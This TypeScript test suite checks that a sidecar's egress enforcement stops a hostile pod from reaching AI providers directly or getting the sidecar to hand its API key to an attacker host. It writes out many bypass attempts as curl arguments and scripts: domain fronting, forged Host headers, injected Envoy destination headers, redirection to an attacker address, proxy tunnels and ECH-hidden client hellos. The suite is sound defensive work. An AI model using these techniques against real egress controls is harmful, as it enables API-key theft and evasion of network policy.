/** A hostile pod tries to reach a provider around its sidecar, or to be given a key. Egress is enforced. Needs root and iptables. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { goProgram, program } from '../../support/interception/clients.ts';
import { OUTSIDE } from '../../support/interception/namespaces.ts';
import { ENFORCED, KEYS, World } from '../../support/interception/world.ts';

let world: World;
let ech: string;
beforeAll(async () => {
  world = await World.create('b', ENFORCED, 'all');
  ech = goProgram(world.folder, 'ech');
});
afterAll(async () => world?.stop());

const BODY = ['-H', 'content-type: application/json', '-d', '{"model":"gpt-4.1","messages":[{"role":"user","content":"hi"}]}'];
const CHAT = '/v1/chat/completions';
/** Trusts nobody in particular, and does not mind. */
const ANY = ['-k', ...BODY];
const to = (name: string, port: number, address: string): string[] => [
  '--connect-to',
  `${name}:${port}:${address.includes(':') ? `[${address}]` : address}:${port}`,
];

/** A call gets no answer from outside (`cut`), or is governed all the same, wherever it was sent to. */
const ATTEMPTS: readonly (readonly [how: string, args: readonly string[], outcome: 'cut' | 'governed' | `${number}`])[] = [
  ['by the provider’s address, without a name', [`https://${OUTSIDE.providers}${CHAT}`, ...ANY], 'cut'],
  ['by its IPv6 address', [`https://[${OUTSIDE.providers6}]${CHAT}`, ...ANY], 'cut'],
  ['by its address, with its name', [`https://api.openai.com${CHAT}`, ...to('api.openai.com', 443, OUTSIDE.providers), ...ANY], 'governed'],
  ['by another port', [`https://api.openai.com:8443${CHAT}`, ...ANY], 'cut'],
  ['by an address that another resolver gave', [`https://api.openai.com${CHAT}`, ...to('api.openai.com', 443, OUTSIDE.attacker), ...ANY], 'governed'],
  ['plainly, by an address that another resolver gave', [`http://api.openai.com${CHAT}`, ...to('api.openai.com', 80, OUTSIDE.attacker), ...ANY], 'governed'],
  [
    'with a forged server name (domain fronting)',
    [`https://harmless.example${CHAT}`, ...to('harmless.example', 443, OUTSIDE.providers), '-H', 'Host: api.openai.com', ...ANY],
    'cut',
  ],
  ['with a host that is not the server’s name', [`https://api.openai.com${CHAT}`, '-H', 'Host: api.anthropic.com', ...ANY], '421'],
  ['with a host of its own behind a governed name', [`https://api.openai.com${CHAT}`, '-H', 'Host: attacker.example', ...ANY], '421'],
  ['with no such host in HTTP/1.1', ['--http1.1', `https://api.openai.com${CHAT}`, '-H', 'Host: api.openai.com.attacker.example', ...ANY], '421'],
  ['plainly, with a forged host', [`http://${OUTSIDE.attacker}${CHAT}`, '-H', 'Host: api.openai.com', ...ANY], 'governed'],
  ['plainly, to a host that is not declared', [`http://attacker.example${CHAT}`, ...ANY], '403'],
  ['plainly, to a model server’s address under another name', [`http://attacker.example:8000${CHAT}`, ...ANY], '403'],
  [
    'naming a provider by a header',
    [`https://api.openai.com${CHAT}`, '-H', 'x-airmesh-backend: shop/anthropic', '-H', 'x-airmesh-workload: shop/other', ...ANY],
    'governed',
  ],
  [
    'telling Envoy where to',
    [`http://api.openai.com${CHAT}`, '-H', 'x-envoy-original-dst-host: 203.0.113.66:80', ...to('api.openai.com', 80, OUTSIDE.attacker), ...ANY],
    'governed',
  ],
  ['telling Envoy where to, elsewhere', [`http://attacker.example${CHAT}`, '-H', 'x-envoy-original-dst-host: 203.0.113.10:443', ...ANY], '403'],
  ['by the sidecar’s own listener', [`https://api.openai.com:15401${CHAT}`, ...to('api.openai.com', 15_401, '127.0.0.1'), ...ANY], 'cut'],
  ['by the sidecar’s own listener, plainly', [`http://127.0.0.1:15401${CHAT}`, '-H', 'Host: api.openai.com', ...ANY], 'cut'],
  ['through a proxy request', ['--proxytunnel', '-x', `http://${OUTSIDE.attacker}:80`, `https://api.openai.com${CHAT}`, ...ANY], 'cut'],
];

describe('a provider cannot be reached', () => {
  it.each(ATTEMPTS)('%s', async (_how, args, outcome) => {
    const answer = await world.curl('--max-time', '8', ...args);
    const { seen, raw } = await world.seen();
    // No server that the pod chose has seen a key, and no provider one of the pod's own.
    expect(seen.filter(({ at }) => at === 'attacker')).toEqual([]);
    expect(raw).toEqual([]);
    if (outcome === 'governed') {
      expect(answer, answer.body).toMatchObject({ status: '200' });
      expect(seen).toMatchObject([{ at: 'providers', host: 'api.openai.com', headers: { authorization: `Bearer ${KEYS.openai}` } }]);
      return;
    }
    expect(seen).toEqual([]);
    expect(answer.status, `${answer.body} ${answer.err}`).toBe(outcome === 'cut' ? '000' : outcome);
  });

  it('by a model server’s address and another name', async () => {
    for (const args of [[`http://${OUTSIDE.models}:8000${CHAT}`], [`http://other.example:8000${CHAT}`, ...to('other.example', 8000, OUTSIDE.models)]])
      expect(await world.curl(...args, ...BODY)).toMatchObject({ status: '403' });
    const { out } = await world.run([process.execPath, program('talk.mjs'), OUTSIDE.models, '8000', 'neither HTTP nor TLS\n']);
    expect(JSON.parse(out)).toMatchObject({ said: expect.stringMatching(/^(ECONNRESET)?$/) });
    expect((await world.seen()).seen).toEqual([]);
  });

  it('under the name of a host that passes: that host itself is reached', async () => {
    await world.curl(`https://pinned.example${CHAT}`, ...to('pinned.example', 443, OUTSIDE.providers), '-H', 'Host: api.openai.com', ...ANY);
    expect((await world.seen()).seen).toMatchObject([{ at: 'others' }]);
  });

  it('by UDP 443, as HTTP/3 does', async () => {
    const ran = await world.run([process.execPath, program('udp.mjs'), OUTSIDE.providers, '443']);
    expect(ran.out).toBe('ECONNREFUSED\n');
  });

  it.each([
    // What stands outside is the name of whoever would unwrap it, which is no declared one.
    ['an undeclared name', 'cloudflare-ech.com', OUTSIDE.providers, 'cut'],
    ['an undeclared name, by IPv6', 'cloudflare-ech.com', OUTSIDE.providers6, 'cut'],
    ['an undeclared name, in the cluster', 'cloudflare-ech.com', OUTSIDE.models, 'cut'],
    // The sidecar reads what stands outside, and cannot read what is within.
    ['a governed name', 'api.openai.com', OUTSIDE.attacker, 'read'],
    // It goes to that host, not to where the pod connected.
    ['a name that passes', 'pinned.example', OUTSIDE.attacker, 'read'],
  ])('by a client hello whose true name is hidden behind %s', async (_what, outer, address, outcome) => {
    const { out, err } = await world.run([ech, `${address.includes(':') ? `[${address}]` : address}:443`, outer, 'api.anthropic.com']);
    expect(out.trim(), err).toBe(outcome);
    expect((await world.seen()).seen).toEqual([]);
  });

  it('by saying nothing until the sidecar no longer listens', async () => {
    const ran = await world.run([process.execPath, program('late.mjs'), OUTSIDE.models, '8000', '6500']);
    expect(ran.out).toBe('closed\n');
    expect((await world.seen()).seen).toEqual([]);
  });

  it('by a server of one’s own, whatever it speaks', async () => {
    const { out } = await world.run([process.execPath, program('talk.mjs'), OUTSIDE.attacker, '5432', 'SSH-2.0-x\r\n']);
    expect(JSON.parse(out)).toMatchObject({ said: expect.stringMatching(/^(ECONNRESET)?$/) });
  });
});

describe('what may be reached still is', () => {
  it('a service of the cluster', async () => {
    const { out } = await world.run([process.execPath, program('talk.mjs'), 'db.shop.svc', '5432', '']);
    expect(JSON.parse(out)).toMatchObject({ said: 'hello\n' });
    expect(await world.curl('http://db.shop.svc/')).toMatchObject({ status: '200' });
    await world.seen();
  });

  it('a host that passes, at its own address only', async () => {
    const ran = await world.run(['curl', '-sS', 'https://pinned.example/', ...to('pinned.example', 443, OUTSIDE.attacker)], {
      env: { CURL_CA_BUNDLE: `${world.folder}/public.pem` },
    });
    expect(ran, ran.err).toMatchObject({ code: 0, out: 'this is others\n' });
  });

  it('and what was refused is counted', async () => {
    expect(await world.stats('tcp.refused.downstream_cx_total')).toMatch(/downstream_cx_total: [1-9]\d*/);
    expect(await world.stats('http.plain-outside.downstream_rq_4xx')).toMatch(/downstream_rq_4xx: [1-9]/);
  });
});
